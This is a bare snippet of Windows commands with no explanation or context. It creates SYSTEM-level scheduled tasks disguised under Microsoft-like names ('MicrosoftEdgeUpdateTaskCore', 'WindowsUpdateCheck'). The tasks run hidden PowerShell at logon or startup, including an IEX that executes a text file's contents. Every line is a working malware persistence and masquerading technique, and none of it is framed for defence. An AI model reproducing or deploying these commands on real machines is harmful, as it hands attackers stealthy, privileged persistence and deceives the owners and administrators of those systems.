schtasks /create /tn "MicrosoftEdgeUpdateTaskCore" /tr "powershell -w hidden -nop -File C:\ProgramData\edge.ps1" /sc onlogon /ru SYSTEM /f
$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -nop -c "IEX (gc C:\ProgramData\s.txt -Raw)"'
$trigger = New-ScheduledTaskTrigger -AtStartup
Register-ScheduledTask -TaskName 'WindowsUpdateCheck' -Action $action -Trigger $trigger -User 'SYSTEM' -RunLevel Highest
